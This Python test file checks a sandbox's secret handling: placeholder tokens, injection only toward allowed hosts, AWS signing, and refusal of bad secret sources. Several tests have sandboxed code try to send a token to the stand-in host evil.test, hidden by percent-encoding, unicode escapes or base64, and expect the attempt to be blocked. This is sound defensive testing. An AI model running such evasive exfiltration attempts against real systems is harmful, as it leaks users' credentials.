#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Secrets that a sandbox never has: --secret, and "secrets" of a policy. What went out is asserted at the other end."""
import atexit
import base64
import hashlib
import hmac
import json
import os
import shutil
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True
from cases import GLOVEBOX, Case, descendants, main, run, wait_until  # noqa: E402
from internet import Internet, veth_is_there  # noqa: E402

NET = None
CAN_RUN = os.getuid() == 0 and shutil.which("ip") and veth_is_there()
VALUE = "ghp_aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5"
FAILED = 125
PROLOGUE = """
import base64, json, os, ssl, urllib.request, urllib.error
token = os.environ["TOKEN"]
def ask(url, **fields):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers={k.replace("_", "-"): v for k, v in fields.items()})) as r:
            return r.read().decode()
    except urllib.error.HTTPError as e:
        return [e.code, json.loads(e.read())["reason"]]
def say(*what):
    print(json.dumps(what), flush=True)
"""


def network():
    """The internet, made once."""
    global NET
    if NET is None:
        folder = tempfile.mkdtemp(prefix="glovebox-net-")
        atexit.register(shutil.rmtree, folder, ignore_errors=True)
        NET = Internet(folder)
        atexit.register(NET.close)
    return NET


class Secrets(Case):
    def setUp(self):
        super().setUp()
        if not CAN_RUN:
            self.skipTest("needs root, ip(8) and veth, for network namespaces")
        network()

    def policy(self, mode="auto", **more):
        rules = [{"id": "a", "action": "allow", "to": {"domain": ["api.good.test", "evil.test"]}}]
        secret = {"source": {"file": self.path("value", VALUE + "\n")}, "env": ["TOKEN"], "allow": {"hosts": ["api.good.test"]}}
        return self.path("p.json", json.dumps({"version": 1, "tls": {"extra_ca_pem": [NET.root], "mode": mode}, "rules": rules,
                                               "secrets": {"KEY": {**secret, **more}}}))

    def python(self, code, *options, **more):
        """What it says, and the fields Authorization that came in meanwhile."""
        before = NET.counts()
        done = run("--policy", self.policy(**more), *options, "--", "/usr/bin/python3", "-c", PROLOGUE + code)
        after = NET.counts()
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertNotIn(VALUE.encode(), done.stdout + done.stderr)
        self.came = after["requests"][len(before["requests"]):]
        return json.loads(done.stdout), after["authorizations"][len(before["authorizations"]):]

    def test_the_server_has_the_value_and_the_program_a_placeholder(self):
        (token, answer), came = self.python("say(token, ask('https://api.good.test/echo', Authorization='Bearer ' + token))")
        self.assertEqual(len(token), len(VALUE))
        self.assertTrue(token.startswith("ghp_"))
        self.assertEqual(came, [f"Bearer {VALUE}"])
        # The server says what it got, and that is scrubbed.
        self.assertIn(["Authorization", f"Bearer {token}"], json.loads(answer)["headers"])

    def test_in_basic_credentials(self):
        _, came = self.python("say(ask('https://api.good.test/', "
                              "Authorization='Basic ' + base64.b64encode(b'user:' + token.encode()).decode()))")
        self.assertEqual([base64.b64decode(c.split()[1]).decode() for c in came], [f"user:{VALUE}"])

    def test_in_a_query_when_asked(self):
        code = "say(token, ask('https://api.good.test/echo?key=' + token))"
        (token, _), _ = self.python(code)
        self.assertEqual(self.came, [["GET", "api.good.test", f"/echo?key={token}"]])
        (token, answer), _ = self.python(code, inject={"query": True})
        self.assertEqual(self.came, [["GET", "api.good.test", f"/echo?key={VALUE}"]])
        self.assertEqual(json.loads(answer)["path"], f"/echo?key={token}")

    def test_never_to_another_host_nor_in_the_clear(self):
        log = self.path("log")
        answers, came = self.python("""
bearer = "Bearer " + token
say(ask("https://evil.test/", Authorization=bearer), ask("https://evil.test/?x=" + token.replace("g", "%67", 1)),
    ask("http://api.good.test/", Authorization=bearer), ask("http://evil.test/", X_Any=token[:-1] + "\\\\u%04x" % ord(token[-1])),
    ask("https://evil.test/", Authorization="Basic " + base64.b64encode(token.encode()).decode()))
""", "--egress-log", log, mode="terminate", on_violation="block_log")
        self.assertEqual(answers, [[403, "secret_violation"]] * 5)
        self.assertEqual((came, self.came), ([], []))
        with open(log, encoding="utf-8") as f:
            self.assertIn("secret_violation", f.read())

    def test_a_violation_ends_the_sandbox(self):
        """At once, whatever its programs do, and with the cause; nothing has gone out."""
        before = NET.counts()
        done = run("--json", "--grace", "60", "--policy", self.policy(mode="terminate", on_violation="terminate"), "--", "/usr/bin/python3", "-c", PROLOGUE + """
import signal, threading
for s in signal.SIGTERM, signal.SIGINT, signal.SIGHUP:
    signal.signal(s, signal.SIG_IGN)
print("before", flush=True)
threading.Thread(target=ask, args=["https://evil.test/"], kwargs={"X_Any": token}, daemon=True).start()
while True:
    signal.pause()
""")
        told = json.loads(done.stdout)
        self.assertEqual((done.returncode, told["cause"], told["signal"], told["stdout"]), (137, "policy", "SIGKILL", "before\n"), told)
        self.assertEqual(told["cause_text"], "secret KEY was to go where it may not")
        self.assertEqual(NET.counts()["requests"], before["requests"])
        # One that is allowed does not.
        answers, _ = self.python("say(ask('https://api.good.test/', Authorization='Bearer ' + token))", mode="terminate", on_violation="terminate")
        self.assertEqual(len(answers), 1)

    def test_narrowed_to_methods_and_paths(self):
        answers, came = self.python("""
bearer = "Bearer " + token
say(ask("https://api.good.test/v1/x", Authorization=bearer), ask("https://api.good.test/v2/x", Authorization=bearer),
    ask("https://api.good.test/v1/../v2/x", Authorization=bearer))
""", allow={"hosts": ["api.good.test"], "methods": ["GET"], "paths": [{"prefix": "/v1/"}]})
        self.assertEqual(answers[1:], [[403, "secret_violation"]] * 2)
        self.assertEqual(came, [f"Bearer {VALUE}"])

    def test_g20_a_request_is_signed_anew(self):
        """As a server calculates it, of what it got."""
        allow = {"hosts": ["api.good.test"]}
        names = {"AWS_ID": "AKIDEXAMPLE0", "AWS_KEY": "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"}
        secrets = {name: {"source": {"file": self.path(name, value)}, "env": [name], "allow": allow} for name, value in names.items()}
        secrets["AWS_KEY"]["sign"] = {"type": "aws_sigv4", "access_key_id_ref": "AWS_ID"}
        policy = self.path("aws.json", json.dumps({
            "version": 1, "tls": {"extra_ca_pem": [NET.root]}, "secrets": secrets,
            "rules": [{"id": "a", "action": "allow", "to": {"domain": ["api.good.test"]}}]}))
        before = NET.counts()
        done = run("--policy", policy, "--", "/usr/bin/python3", "-c", PROLOGUE.replace('token = os.environ["TOKEN"]', "") + """
scope = os.environ["AWS_ID"] + "/20130101/eu-west-1/s3/aws4_request"
say(ask("https://api.good.test/echo?b=1&a=2", X_Amz_Date="20130101T000000Z", X_Amz_Content_SHA256="UNSIGNED-PAYLOAD",
        Authorization=f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host;x-amz-date, Signature=" + "0" * 64))
""")
        self.assertEqual(done.returncode, 0, done.stderr)
        for value in names.values():
            self.assertNotIn(value.encode(), done.stdout + done.stderr)
        (came,) = NET.counts()["authorizations"][len(before["authorizations"]):]
        fields = {k.lower(): v for k, v in json.loads(json.loads(done.stdout)[0])["headers"]}
        date = fields["x-amz-date"]
        self.assertNotEqual(date, "20130101T000000Z")
        day, signed = date[:8], "host;x-amz-content-sha256;x-amz-date"
        canonical = "\n".join(["GET", "/echo", "a=2&b=1", *(f"{n}:{fields[n]}" for n in signed.split(";")), "", signed, "UNSIGNED-PAYLOAD"])
        text = f"AWS4-HMAC-SHA256\n{date}\n{day}/eu-west-1/s3/aws4_request\n{hashlib.sha256(canonical.encode()).hexdigest()}"
        key = b"AWS4" + names["AWS_KEY"].encode()
        for part in (day, "eu-west-1", "s3", "aws4_request", text):
            key = hmac.new(key, part.encode(), hashlib.sha256).digest()
        self.assertEqual(came, f"AWS4-HMAC-SHA256 Credential={names['AWS_ID']}/{day}/eu-west-1/s3/aws4_request, SignedHeaders={signed}, "
                               f"Signature={key.hex()}")

    def test_it_opens_no_host(self):
        (answer,), came = self.python("""
try:
    ask("https://git.good.test/", Authorization="Bearer " + token)
except urllib.error.URLError as e:
    say(type(e.reason).__name__)
""", allow={"hosts": ["git.good.test"]})
        self.assertEqual((answer, came), ("gaierror", []))

    def test_the_value_is_nowhere(self):
        """Not in arguments and variables of our processes, nor in what is written down while they run."""
        log, runtime = self.path("log"), self.path("run")
        os.mkdir(runtime, 0o700)
        env = {**os.environ, "XDG_RUNTIME_DIR": runtime}
        code = PROLOGUE + "say(ask('https://api.good.test/v/' + token, Authorization=token) and 1); import sys; sys.stdin.read()"
        process = self.start("--policy", self.policy(inject={"query": True}), "--egress-log", log, "--name", "nowhere", "--",
                             "/usr/bin/python3", "-c", code, env=env)
        self.assertEqual(process.stdout.readline(), b"[1]\n")
        found = [process.pid] + [pid for pid, _ in descendants(process.pid)]
        self.assertGreaterEqual(len(found), 3)
        for pid in found:
            for name in ("cmdline", "environ"):
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    self.assertNotIn(VALUE.encode(), f.read())
        inspect = subprocess.run([GLOVEBOX, "inspect", "nowhere"], env=env, capture_output=True, check=True)
        self.assertNotIn(VALUE.encode(), inspect.stdout)
        written = [os.path.join(folder, name) for folder, _, names in os.walk(self.folder) for name in names]
        self.assertIn(log, written)
        for path in written:
            if os.path.isfile(path) and path != self.path("value"):
                with open(path, "rb") as f:
                    self.assertNotIn(VALUE.encode(), f.read(), path)
        process.stdin.close()
        self.assertTrue(wait_until(lambda: process.poll() is not None))


class Sources(Case):
    """What the command line says, and what stops a start."""
    def program(self, *options, env=None):
        return run("--allow", "a.example", *options, "--", "/bin/sh", "-c", 'printf "$KEY"', env={**os.environ, **(env or {})})

    def test_each_source(self):
        file = self.path("a@b:c", VALUE + "\n")
        for source in ("env:SOURCE", f"file:{file}", f"cmd:cat '{file}' | head -1"):
            done = self.program("--secret", f"KEY={source}@a.example,b.example:GET /v1/*", env={"SOURCE": VALUE})
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertTrue(done.stdout.startswith(b"ghp_") and len(done.stdout) == len(VALUE), done.stdout)
            self.assertNotEqual(done.stdout.decode(), VALUE)

    def test_each_start_has_a_placeholder_of_its_own(self):
        seen = {self.program("--secret", "KEY=env:S@a.example", env={"S": VALUE}).stdout for _ in range(2)}
        self.assertEqual(len(seen), 2)

    def expect_refused(self, words, *options, env=None):
        done = self.program(*options, env=env)
        said = done.stderr.decode()
        self.assertEqual((done.returncode, done.stdout), (FAILED, b""), said)
        self.assertIn(words, said)
        self.assertEqual(said.count("\n"), 1)
        self.assertIn("; ", said)
        self.assertNotIn(VALUE, said)

    def test_a_source_that_is_missing_stops_the_start(self):
        self.expect_refused("secret KEY: env NOT_THERE: it is not set; ", "--secret", "KEY=env:NOT_THERE@a.example")
        self.expect_refused("secret KEY: file /not/there: No such file", "--secret", "KEY=file:/not/there@a.example")
        self.expect_refused("secret KEY: command /bin/sh: it ended with status 7; ", "--secret", "KEY=cmd:exit 7@a.example")
        self.expect_refused("secret KEY: env S: the value has more than one line", "--secret", "KEY=env:S@a.example",
                            env={"S": VALUE + "\r\nX: y"})
        self.expect_refused("secret KEY: env S: the value is empty", "--secret", "KEY=env:S@a.example", env={"S": ""})

    def test_what_does_not_go_together(self):
        secret = ("--secret", "KEY=env:S@a.example")
        self.expect_refused("its variable KEY is set already", *secret, "--env", "KEY", env={"S": VALUE, "KEY": VALUE})
        self.expect_refused("given twice", *secret, *secret, env={"S": VALUE})
        for options, words in ((["--policy", self.path("p.json", '{"version":1}'), *secret], "not together with --policy"),
                               ([*secret], "opens no host; add --allow HOST")):
            done = run(*options, "--", "true", env={**os.environ, "S": VALUE})
            self.assertEqual(done.returncode, FAILED)
            self.assertIn(words, done.stderr.decode())


if __name__ == "__main__":
    main(sys.modules["__main__"])
